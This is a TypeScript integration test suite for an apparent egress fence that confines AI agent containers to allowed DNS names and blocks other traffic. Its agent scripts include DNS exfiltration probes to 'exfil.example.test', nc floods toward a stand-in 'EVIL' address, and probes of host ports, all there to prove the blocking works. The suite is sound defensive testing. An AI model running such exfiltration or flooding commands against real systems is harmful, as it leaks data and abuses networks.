import { mkdtempSync, rmSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import type { Fence, FenceGrant, FenceLease } from '../../src/core/ports/fence.ts';
import { createFence } from '../../src/fence/fence.ts';
import { createGateClient } from '../../src/gate/client.ts';
import type { GateClient } from '../../src/gate/client.ts';
import { openNflog } from '../../src/kernel/nflog.ts';
import type { Nflog } from '../../src/kernel/nflog.ts';
import { NEVER_RANGES } from '../../src/policy/egress.ts';
import { dnsQueriesSeen, docker, lab, mark, packetsTo } from '../support/lab.ts';
import { grantOf, nameGrant } from '../support/grants.ts';
import { until } from '../support/until.ts';

/** Real containers on a real engine, with its own rules and its own resolver in the way. Verdicts at the internet. */
const IMAGE = 'ringfence/agent-shell:local';
const DOCS = '192.0.2.50';
const EVIL = '203.0.113.66';
const NAMES = [nameGrant('docs.example.test')];
const SILENT = { debug: () => undefined, info: () => undefined, warn: () => undefined, error: () => undefined };
const CURL = 'curl -sk --max-time 4 -o /dev/null -w "%{http_code} %{errormsg}\\n"';
const DENIED_MS_MAX = 5_000;

let fence: Fence;
let gate: GateClient;
let nflog: Nflog;
let folder: string;
let lastRun = 0;
const made: { readonly lease: FenceLease; readonly containers: string[] }[] = [];

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'ringfence-fence-'));
  const pool = '10.214.0.0/16';
  gate = createGateClient({
    config: {
      port: 5399,
      checkPort: 5398,
      pool,
      upstreams: [{ address: lab.resolver, port: 53 }],
      neverRanges: NEVER_RANGES,
      holdMs: 3_000,
    },
    wardenPipe: null,
    log: SILENT,
  });
  fence = createFence({
    pool,
    gatePort: 5399,
    checkPort: 5398,
    nflogGroup: 89,
    listSubnets: () => Promise.resolve([]),
    gate,
    stateDirectory: folder,
    log: SILENT,
  });
  await fence.install();
  await gate.start();
  nflog = openNflog({ group: 89 });
});

afterEach(async () => {
  for (const { lease, containers } of made.splice(0)) {
    for (const container of containers) await docker('rm', '-f', container);
    await fence.disarm(lease.runId);
    await docker('network', 'rm', lease.bridge);
  }
});

afterAll(async () => {
  nflog.close();
  await gate.close();
  await fence.uninstall();
  rmSync(folder, { recursive: true, force: true });
});

/** A network as the daemon makes it; nothing is opened for it yet. */
async function makeNetwork(): Promise<FenceLease> {
  lastRun += 1;
  const given = fence.lease(`rd${String(lastRun).padStart(11, '0')}`);
  made.push({ lease: given, containers: [] });
  const bridge = `com.docker.network.bridge.name=${given.bridge}`;
  await docker('network', 'create', '-o', bridge, '--subnet', given.subnet, '--gateway', given.gateway, given.bridge);
  return given;
}

async function arm(given: FenceLease, grant: Partial<FenceGrant> = {}): Promise<void> {
  await fence.arm(grantOf({ lease: given, names: NAMES, ...grant }));
}

function place(given: FenceLease): string[] {
  return ['--network', given.bridge, '--ip', given.address, '--dns', given.gateway, '--dns-search', '.'];
}

/** The lines that the agent writes, after the marker that says that it ran; how its script ends proves nothing. */
async function agent(given: FenceLease, script: string): Promise<string[]> {
  const output = await docker(
    'run',
    '--rm',
    '--cap-drop',
    'ALL',
    ...place(given),
    IMAGE,
    'sh',
    '-c',
    `echo begun; ${script}; true`,
  );
  const [begun, ...lines] = output.trim().split('\n');
  if (begun !== 'begun') throw new Error(`the agent did not run: ${output}`);
  return lines.map((line) => line.trim());
}

async function startAgent(given: FenceLease, script: string): Promise<string> {
  const id = (await docker('run', '-d', '--cap-drop', 'ALL', ...place(given), IMAGE, 'sh', '-c', script)).trim();
  made.find((entry) => entry.lease === given)?.containers.push(id);
  return id;
}

function feed(): string[] {
  const seen = new Set<string>();
  for (let packets = nflog.read(); packets.length > 0; packets = nflog.read()) {
    for (const { prefix, packet } of packets) {
      seen.add(`${prefix} ${packet?.destination ?? ''}:${packet?.destinationPort ?? ''}/${packet?.protocol ?? ''}`);
    }
  }
  return [...seen];
}

test('reaches a listed name through the resolver of the engine, and asks nobody about another', async () => {
  const since = await mark();
  const given = await makeNetwork();
  await arm(given);
  const lines = await agent(
    given,
    `cat /etc/resolv.conf | grep -c 127.0.0.11; ${CURL} https://docs.example.test/
     ${CURL} https://evil.example.test/; dig +short +tries=1 TXT docs.example.test
     for n in 1 2 3 4 5; do dig +short +tries=1 +time=2 data$n.exfil.example.test; done
     dig +short +tries=1 +time=2 @${lab.otherResolver} evil.example.test; echo done`,
  );
  expect(lines.slice(0, 2)).toEqual(['1', '200']);
  expect(lines[2]).toMatch(/^000 Could not resolve host/);
  expect(lines.at(-1)).toBe('done');
  const asked = (await dnsQueriesSeen({ since })).map(({ name, type, resolver }) => `${type} ${name} ${resolver}`);
  expect(new Set(asked)).toEqual(new Set([`A docs.example.test ${lab.resolver}`]));
  expect(await packetsTo(EVIL, { since })).toEqual([]);
});

test('holds from the first instruction of a container for which nothing was opened yet', async () => {
  const since = await mark();
  const given = await makeNetwork();
  const flood = `while :; do for p in 443 53 22; do echo x | nc -u -w0 ${EVIL} $p; nc -z -w1 ${EVIL} $p & done; wait; done`;
  await startAgent(given, flood);
  await until('the flood is under way', () => feed().some((line) => line.startsWith('rf:spoof')), {
    deadlineMs: DENIED_MS_MAX,
  });
  await arm(given);
  await until('the flood goes on after arming', () => feed().includes(`rf:deny ${EVIL}:443/tcp`), {
    deadlineMs: DENIED_MS_MAX,
  });
  expect(await packetsTo(EVIL, { since })).toEqual([]);
  expect(await fence.verify()).toEqual({ kind: 'in-force' });
});

test('lets nothing out while the engine rebuilds its rules for other networks', async () => {
  const since = await mark();
  const given = await makeNetwork();
  await arm(given);
  await startAgent(given, `while :; do for n in 1 2 3 4 5 6 7 8 9 0; do echo x | nc -u -w0 ${EVIL} 443; done; done`);
  await until('the flood is under way', () => feed().includes(`rf:deny ${EVIL}:443/udp`), {
    deadlineMs: DENIED_MS_MAX,
  });
  for (const name of ['rf-other-1', 'rf-other-2', 'rf-other-3']) {
    await docker('network', 'create', name);
    await docker('network', 'rm', name);
  }
  expect(await packetsTo(EVIL, { since })).toEqual([]);
  expect(await fence.verify()).toEqual({ kind: 'in-force' });
  expect((await agent(await armed(), `${CURL} https://docs.example.test/`))[0]).toBe('200');
});

async function armed(): Promise<FenceLease> {
  const given = await makeNetwork();
  await arm(given);
  return given;
}

test('refuses services of the host and published ports of other containers as attempts on the host', async () => {
  const server = createServer((socket) => socket.end('secret')).listen(7777, '0.0.0.0');
  const other = (await docker('run', '-d', '-p', '7778:7778', IMAGE, 'nc', '-lk', '-p', '7778')).trim();
  try {
    const given = await armed();
    feed();
    const lines = await agent(
      given,
      [given.gateway, lab.hostAddress]
        .flatMap((address) => ['7777', '7778'].map((port) => `nc -zv -w2 ${address} ${port} 2>&1`))
        .join('; '),
    );
    expect(lines).toHaveLength(4);
    for (const line of lines) expect(line).toContain('Connection refused');
    expect(new Set(feed())).toEqual(
      new Set(
        [given.gateway, lab.hostAddress].flatMap((address) =>
          ['7777', '7778'].map((port) => `rf:host ${address}:${port}/tcp`),
        ),
      ),
    );
  } finally {
    server.close();
    await docker('rm', '-f', other);
  }
});

test('holds the bandwidth of a container from its first packet, on the port that the engine makes at its start', async () => {
  const given = await makeNetwork();
  const grant = grantOf({ lease: given, names: NAMES, bandwidthBitsPerSecond: 8_000_000 });
  await fence.arm(grant);
  await fence.shape(grant);
  const since = await mark();
  const upload =
    'head -c 2000000 /dev/zero | curl -sk --max-time 20 -o /dev/null -w "%{http_code} %{size_upload} %{time_total}\\n" -T -';
  const [line = ''] = await agent(given, `${upload} https://docs.example.test/`);
  const [, bytes, seconds] = line.split(' ').map(Number);
  expect(bytes).toBeGreaterThanOrEqual(2_000_000);
  // Two seconds by the rate; a slow machine may take longer, but nothing can be faster.
  expect(seconds).toBeGreaterThan(1.7);
  expect((await packetsTo(DOCS, { since })).length).toBeGreaterThan(0);
  expect(feed()).toEqual([]);
  expect(await fence.verify()).toEqual({ kind: 'in-force' });
});

test('goes on resolving and passing for a container after the rules were put in force again', async () => {
  const given = await armed();
  const since = await mark();
  await fence.install();
  const lines = await agent(given, `${CURL} https://docs.example.test/; ${CURL} https://${EVIL}/`);
  expect(lines[0]).toBe('200');
  expect(lines[1]).toMatch(/^000 Failed to connect/);
  expect((await packetsTo(DOCS, { since })).length).toBeGreaterThan(0);
  expect(await packetsTo(EVIL, { since })).toEqual([]);
});
